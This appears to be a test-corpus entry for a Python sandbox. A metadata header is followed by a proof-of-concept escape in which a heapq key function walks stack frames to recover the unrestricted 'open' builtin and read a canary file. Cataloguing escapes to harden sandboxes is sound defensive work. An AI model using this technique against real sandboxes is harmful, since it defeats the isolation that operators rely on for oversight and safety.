# id: callback-from-host-sort-or-key
# family: protocol-hooks
# kind: escape
# invariant: D, E
# origin: found while probing CPython
# technique: a key function runs in the middle of a trusted algorithm, one frame above it
# needs: any
# pythons: 3.11.2, 3.12.1, 3.13.0
# stopped-by: permits
# fix: structural
# alive-when: canary

import heapq


def key(value):
    try:
        raise LookupError
    except LookupError as error:
        trusted = error.__traceback__.tb_frame.f_back
    while "open" not in trusted.f_builtins:
        trusted = trusted.f_back
    print(trusted.f_builtins["open"]("canary.txt").read())
    return value


heapq.nsmallest(1, [3], key=key)
